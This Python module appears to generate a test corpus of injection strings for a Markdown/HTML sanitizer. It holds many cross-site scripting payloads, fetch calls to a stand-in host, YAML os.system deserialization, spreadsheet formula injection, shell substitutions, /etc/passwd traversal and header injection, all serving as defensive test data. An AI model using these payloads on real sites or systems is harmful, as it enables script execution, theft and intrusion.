"""Attacks on readers, made from tables: what runs code, times the ways of disguising it.

Each is what somebody could slip into a field. `CODE` calls `alert`, or loads from `FOREIGN`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CODE = "alert(1)"
FOREIGN = "xss.example"

#: Elements that a browser gives an event of their own accord or at the first move of a mouse.
EVENTS = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("iframe", "onload"),
    ("style", "onload"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("p style=animation:x", "onanimationstart"),
    ("form", "onsubmit"),
    ("a href=/", "onmouseover"),
    ("b", "onclick"),
    ("td", "onpointerenter"),
    ("dialog open", "onclose"),
    ("abbr title=x", "oncopy"),
)
#: `{tag}` and `{event}` are an element and its attribute, `{code}` the script.
HANDLERS = (
    "<{tag} {event}={code}>",
    "<{tag}\n{event}\n=\n'{code}'>",
    "<{TAG} {EVENT}=&#97;lert&lpar;1&rpar;>",
    "<{tag} \f{event}=\"{code}\" alt='<b>'>",
    "<{tag} {event}={code}//",
    "chữ <{tag} x='>' {event}={code}> chữ",
)
#: Ways of writing an address that a browser reads as a script.
ADDRESSES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    " javascript:{code}",
    "\tjavascript:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "\x01javascript:{code}",
    "\u00a0javascript:{code}",
    "&#106;avascript:{code}",
    "&#0000106avascript:{code}",
    "&#x6A;avascript&#x3a;{code}",
    "java&Tab;script:{code}",
    "java&NewLine;script:{code}",
    "javascript&colon;{code}",
    "&amp;#106;avascript:{code}",
    "javascript://%0a{code}",
    "javascript:%61lert(1)",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "vbscript:msgbox(1)",
    "blob:https://xss.example/1",
    "file:///etc/passwd",
    "view-source:https://xss.example/",
    "//xss.example/",
    "/\\xss.example/",
    "\\\\xss.example\\",
    "https:xss.example",
    "https://tinhmau.gov.vn@xss.example/",
    "https://tinhmau.gov.vn\\@xss.example/",
    "https://xss.example#.tinhmau.gov.vn",
)
#: Where an address may stand in a text.
CARRIERS = (
    "[chữ]({url})",
    "[chữ](<{url}>)",
    "[chữ][r]\n\n[r]: {url}",
    "[r]\n\n[r]: <{url}> 'chữ'",
    "<{url}>",
    "![lời tả ảnh]({url})",
    "[![lời tả ảnh](x.jpg)]({url})",
    '<a href="{url}">chữ</a>',
    "<a href='{url}'>chữ</a>",
    "<A HREF={url}>chữ</A>",
)
#: Elements that fetch or follow an address by themselves.
FETCHERS = (
    '<img src="{url}">',
    '<img srcset="{url} 1x">',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<form action="{url}"><button>gửi</button></form>',
    '<form><button formaction="{url}">gửi</button></form>',
    '<svg><a xlink:href="{url}"><text y="9">chữ</text></a></svg>',
    '<svg><use href="{url}"/></svg>',
    '<svg><animate attributeName="href" values="{url}"/></svg>',
    '<math href="{url}">chữ</math>',
    '<map><area href="{url}"></map>',
    '<base href="{url}">',
    '<link rel="stylesheet" href="{url}">',
    '<link rel="prefetch" href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<script src="{url}"></script>',
    '<video poster="{url}"></video>',
    '<table background="{url}"><tr><td>chữ</td></tr></table>',
    '<p style="background:url({url})">chữ</p>',
    "<style>@import '{url}';</style>",
    '<a href="/" ping="{url}">chữ</a>',
    '<iframe srcdoc="<script src={url}></script>"></iframe>',
)
FETCHED = ("javascript:{code}", "data:text/html,<script>{code}</script>", "https://xss.example/x")
#: Ends of what a text may have been put into.
BREAKOUTS = (
    *('"', "'", "`", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>"),
    *("-->", "]]>", "*/", "</p>", "</a>", "\\", '\\"', "\u2028", "\r\n\r\n", "%0d%0a", "</text>"),
)
ENTERING = ("<script>{code}</script>", "<img src=x onerror={code}>", ' onmouseover={code} x="')
#: Code hidden where two readers of HTML, of Markdown or of a template disagree.
SINGLE = (
    *("<script>{code}", "<script/x>{code}</script>", "<script\n>{code}</script\n>"),
    *("<SCRIPT TYPE=module>{code}</SCRIPT>", "<<script>{code}//<</script>"),
    *(
        "<scr<script>ipt>{code}</scr</script>ipt>",
        "<scr\0ipt>{code}</scr\0ipt>",
        "<\0script>{code}",
    ),
    *("<script\x0b>{code}</script>", "<script>&#97;lert(1)</script>", "<svg><script>&#97;lert(1)"),
    *("<svg><script href=data:text/javascript,{code} />", "<iframe srcdoc='<script>{code}'>"),
    *("<iframe srcdoc=&lt;script&gt;{code}&lt;/script&gt;>", "<template><script>{code}</script>"),
    *("<template shadowrootmode=open><img src=x onerror={code}></template>", "<plaintext>{code}"),
    "<svg><foreignObject><img src=x onerror={code}></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={code}>'>",
    "<svg><style><img src=x onerror={code}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src onerror={code}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={code}>",
    "<select><style><!--</style><a rel='--></style></select><img src=x onerror={code}>'>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror={code}>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'></xmp>",
    "<listing>&lt;img src=x onerror={code}&gt;</listing>",
    "<textarea><p title='</textarea><img src=x onerror={code}>'>",
    "<table><tr><td><p><table><img src=x onerror={code}></table></td></tr></table>",
    "<p><table><caption><style><img src=x onerror={code}></style></caption></table>",
    *("<!--><img src=x onerror={code}>-->", "<!-- --!><img src=x onerror={code}> -->"),
    *("<!--[if gte IE 4]><script>{code}</script><![endif]-->", "<!-><img src=x onerror={code}>"),
    *("<![CDATA[><script>{code}</script>]]>", "<svg><![CDATA[><img src=x onerror={code}>]]></svg>"),
    *("<?xml version='1.0'?><script>{code}</script>", "<?php echo 1; ?><script>{code}</script>"),
    "<!DOCTYPE x [<!ENTITY y '<script>{code}</script>'>]>&y;",
    *("</br/><img src=x onerror={code}>", "<//><img src=x onerror={code}>", "<x onclick={code}>x"),
    *("<a name=alert>x</a>", "<form id=document><input name=body></form>", "<img name=cookie>"),
    *("<p style='x:expression({code})'>x</p>", "<p style=position:fixed;left:-9999px>cờ bạc</p>"),
    *(
        "<style>*{{background:url(//xss.example/)}}</style>",
        "<p hidden>cờ bạc</p>",
        "<p id=top>x</p>",
    ),
    *("<img src=x:x onerror=import('//xss.example/')>", "<b onclick=fetch('//xss.example/')>x</b>"),
    *(
        "[^1]\n\n[^1]: <img src=x onerror={code}>",
        '[^x" onmouseover={code}]\n\n[^x" onmouseover={code}]: y',
    ),
    "[^<img src=x onerror={code}>]\n\n[^<img src=x onerror={code}>]: chữ",
    *(
        "chữ\n{{: onclick={code} }}",
        "## Mục {{#x onclick={code}}}",
        "*chữ*{{: onmouseover='{code}' }}",
    ),
    "| a | b |\n|---|---|\n| <img src=x onerror={code}> | <script>{code}</script> |",
    *(
        "chữ\n: <img src=x onerror={code}>",
        "- <script>{code}</script>\n- b",
        "> <svg onload={code}>",
    ),
    *(
        "`<script>{code}</script>`",
        "```html\n<script>{code}</script>\n```",
        "    <script>{code}</script>",
    ),
    *('``` "><img src=x onerror={code}>\nchữ\n```', "~~~ {{.x onclick={code}}}\nchữ\n~~~"),
    *('![" onerror={code} x="](x.jpg)', '![x](x.jpg "\\" onerror={code} x=\\"")'),
    *("![<img src=x onerror={code}>](x.jpg)", "[x](/trang/lien-he/ '\" onclick={code} x=\"')"),
    *("[<script>{code}</script>](/trang/lien-he/)", '[x](/trang/lien-he/"onclick={code}//)'),
    *(
        "[x](/trang/lien-he/?a=<script>{code}</script>)",
        '[x](/trang/lien-he/#"><img src=x onerror={code}>)',
    ),
    *(
        '[x](mailto:a@b.vn"onclick={code}//)',
        '<a@b.vn"onclick={code}//>',
        '<https://x"onclick={code}//>',
    ),
    *(
        "[a]: /x 'y\" onclick={code} z=\"'\n\n[a]",
        "\x02wzxhzdk:0\x03<b>",
        "klzzwxh:0000",
        "\x02amp\x03",
    ),
    *(
        "\\<script>{code}\\</script>",
        "<scr\\ipt>{code}</scr\\ipt>",
        "&lt;script&gt;{code}&lt;/script&gt;",
    ),
    *(
        "&amp;lt;script&amp;gt;{code}",
        "&#60;script&#62;{code}",
        "&#x3c;img src=x onerror={code}&#x3e;",
    ),
    *("%3Cscript%3E{code}%3C/script%3E", "\\u003cscript\\u003e{code}", "\\x3cscript\\x3e{code}"),
    *(
        "＜script＞{code}＜/script＞",
        "‹script›{code}",
        "\ufeff<script>{code}</script>",
        "\u202e<b>x",
    ),
    *("+ADw-script+AD4-{code}+ADw-/script+AD4-", "\x1b(J<script>{code}", "\u01fecript>{code}"),
    *("';{code};//", '";{code};//', "'-{code}-'", '"-{code}-"', "${{{code}}}", "`-{code}-`"),
    *(
        "\\';{code};//",
        '";}}{code}//',
        "</script ><script>{code}//",
        "\u2028{code}\u2029",
        "]]]]><![CDATA[>",
    ),
    *(
        "{{{{ 7*7 }}}}",
        "{{{{ config.items() }}}}",
        "{{% include '/etc/passwd' %}}",
        "{{# chú thích #}}",
    ),
    *("{{{{ ''.__class__.__mro__ }}}}", "{{{{ view|safe }}}}", "<%= 7*7 %>", "#{{7*7}}", "@(7*7)"),
    *("{{filename}}/../../etc/passwd", "{{static}}/x.js", "|safe", "{{% raw %}}<b>{{% endraw %}}"),
    *('[[chi-so "><script>{code}</script>]]', '[[chi-so bo="<img src=x onerror={code}>"]]'),
    *("[[x onload={code}]]", "[[<script>{code}</script>]]", "[[/chi-so]]", "[[chi-so bo=../../x]]"),
    *(
        "=cmd|' /C calc'!A1",
        '=HYPERLINK("https://xss.example/")',
        "@SUM(1)*{code}",
        "+1+{code}",
        "-1+{code}",
    ),
    *(
        "\t=1+1",
        "\r=1+1",
        "a\n=1+1",
        '",=1+1,"',
        "a;b;<script>{code}</script>",
        "%00<b>",
        "..\\..\\x",
    ),
    *(
        "../../../etc/passwd",
        "x\r\nSet-Cookie: a=1",
        "x\nLocation: //xss.example/",
        "$(id)",
        "`id`",
        "; id",
    ),
    *(
        '{{"@type":"x"}}</script><script>{code}</script>',
        "<content type=html>&lt;script&gt;{code}</content>",
    ),
)
#: Front matter written as no form would write it; `---` stands around each.
HEADS = (
    "title: !!python/object/apply:os.system [id]",
    "title: !!python/name:os.system x",
    "title: &a x\nsummary: *a",
    "<<: {title: x}",
    "title: {a: <script>alert(1)</script>}",
    "title: [<img src=x onerror=alert(1)>]",
    "title: |\n  <script>\n  alert(1)</script>",
    "title: x\ntitle: <script>alert(1)</script>",
    "title: x\nsave_as: index.html",
    "title: x\nurl: javascript:alert(1)",
    "title: x\ntemplate: ../../x",
    "title: x\nslug: ../../x",
    "title: x\nlang: \"vi' onload='alert(1)\"",
    "title: x\nstatus: <script>alert(1)</script>",
    "title: x\ndate: <script>alert(1)</script>",
    "title: x\n<script>alert(1)</script>: y",
    "title: x\nsummary: y\n...\n--- !!x\na: b",
    "? title\n: x",
    "%YAML 9.9\n---\ntitle: x",
    'title: "\\x3cscript>alert(1)</script>"',
    'title: "\\0\\u2028</title><script>alert(1)</script>"',
)

#: Signs of Markdown and of HTML, of which random texts are made.
MARKS = (
    *("<", ">", "</", "/>", "=", '"', "'", "`", "``", "&", ";", "#", "##", "\\", "*", "**", "_"),
    *("[", "]", "(", ")", "![", "](", "]:", "[^1]", "[^1]:", "[[", "]]", "|", "|---|", ":", "~"),
    *(
        " ",
        "    ",
        "\t",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "> ",
        "---",
        "===",
        "\r",
        "\x00",
        "\x02",
        "\x03",
    ),
    *("<b>", "</b>", "<p>", "</p>", "<table>", "<tr>", "<td>", "</table>", "<a href=", "<li>"),
    *(
        "<!--",
        "-->",
        "<script>",
        "</script>",
        "<style>",
        "<svg",
        "<math>",
        "<img src=x ",
        "<pre>\n",
    ),
    *(
        "onclick=x",
        "javascript:",
        "https://",
        "//",
        "&#106;",
        "&lt;",
        "&nbsp;",
        "UBND",
        "klzzwxh:1",
    ),
    *("wzxhzdk:0", "Đ", "ữ", "e\u0301", "\u200b", "\U0001f600", "22/2023/TT-BTTTT", "a@b.vn"),
)


def attacks() -> tuple[str, ...]:
    """Give every attack once."""
    return tuple(dict.fromkeys(text.replace("xss.example", FOREIGN) for text in _attacks()))


def _attacks() -> Iterator[str]:
    for number, (tag, event) in enumerate(EVENTS):
        for form in HANDLERS[number % 2 :: 2]:
            yield form.format(tag=tag, event=event, TAG=tag.upper(), EVENT=event.upper(), code=CODE)
    urls = [address.format(code=CODE) for address in ADDRESSES]
    yield from urls
    for carrier in CARRIERS:
        few = urls if carrier in (CARRIERS[0], CARRIERS[7]) else urls[::3]
        yield from (carrier.format(url=url) for url in few)
    for fetcher, address in product(FETCHERS, FETCHED):
        yield fetcher.format(url=address.format(code=CODE))
    for end, attack in product(BREAKOUTS, ENTERING):
        yield end + attack.format(code=CODE)
    yield from (single.format(code=CODE) for single in SINGLE)
